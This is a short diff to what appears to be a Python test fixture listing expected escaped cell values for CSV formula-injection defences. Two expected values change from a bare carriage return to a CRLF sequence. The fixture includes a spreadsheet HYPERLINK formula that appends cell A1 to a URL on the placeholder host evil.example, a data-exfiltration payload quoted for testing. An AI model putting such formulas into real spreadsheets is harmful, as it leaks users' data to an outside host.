@@ -35,7 +35,7 @@ WANT = {
         (0, 1, "'@SUM(A1) series"),
         (1, 0, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
         (2, 0, "'+1"), (3, 0, "'-2+3"), (4, 0, "'@SUM(A1)"),
-        (5, 0, "'\tTAB start"), (6, 0, "'\rCR start"), (7, 0, "''quoted"),
+        (5, 0, "'\tTAB start"), (6, 0, "'\r\nCR start"), (7, 0, "''quoted"),
         (1, 1, "3"),
     ],
     "charts/csv-lines.csv": [
@@ -44,7 +44,7 @@ WANT = {
     ],
     "charts/csv-matrix.csv": [
         (1, 0, "'-4"), (1, 1, "'=1+2"), (1, 3, "'@note"), (2, 1, "'+3"),
-        (2, 3, "'=note"), (3, 0, "'\tTAB row"), (3, 3, "'\rCR note"), (4, 3, "plain"),
+        (2, 3, "'=note"), (3, 0, "'\tTAB row"), (3, 3, "'\r\nCR note"), (4, 3, "plain"),
     ],
     "charts/csv-events.csv": [
         (1, 2, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), (2, 2, "'@SUM(A1)"),
